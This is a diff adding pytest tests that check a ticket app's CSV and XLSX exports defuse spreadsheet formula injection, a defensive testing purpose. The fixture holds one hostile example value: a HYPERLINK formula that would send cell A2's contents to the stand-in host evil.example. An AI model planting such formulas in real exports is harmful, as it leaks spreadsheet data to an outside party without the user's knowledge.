@@ -269,3 +269,46 @@ def test_list_alone_for_another_page(overdue_casebook):
     assert not at.exception and not at.metric
     assert list(at.dataframe[0].value[COL_TICKET]) == ["T4"]
     assert at.segmented_control(key=f"community_overdue_{keys.OVERDUE_DUE}").value == "both"
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
+
+
+@pytest.fixture
+def hostile_casebook(overdue_casebook):
+    """T4's category and its community's name are formulas, as an imported export could make them."""
+    from sqlalchemy import text
+
+    eng = make_engine(overdue_casebook)
+    with eng.begin() as conn:
+        conn.execute(text("UPDATE ticket SET category = :c WHERE ticket_no = 'T4'"), {"c": HOSTILE})
+        conn.execute(text("UPDATE community SET name = '@SUM(1+1)' WHERE id = (SELECT community_id FROM ticket "
+                          "WHERE ticket_no = 'T4')"))
+    eng.dispose()
+    return overdue_casebook
+
+
+def test_exports_write_formula_like_text_as_text(hostile_casebook, downloads):
+    """OWASP CSV injection: a value starting with = + - @ reaches a spreadsheet as text, never as a formula."""
+    open_overdue()
+    raw = downloads.payload(key(keys.OVERDUE_CSV)).decode("utf-8-sig")
+    parsed = pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False)
+    cells = set(parsed.to_numpy().ravel())
+    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    xlsx = downloads.payload(key(keys.OVERDUE_XLSX))
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
+    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    assert HOSTILE in {c.value for c in texts} and "@SUM(1+1)" in {c.value for c in texts}
+    assert all(c.data_type == "s" for c in texts)  # stored as strings, not formulas
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_as_text_leaves_numbers_and_plain_text_alone():
+    from ui.overdue_view import as_text
+
+    assert [as_text(v) for v in (-3, 2.5, "东湖", "-1", "+86", "\t=1", "＝1")] == [
+        -3, 2.5, "东湖", "'-1", "'+86", "'\t=1", "'＝1"]
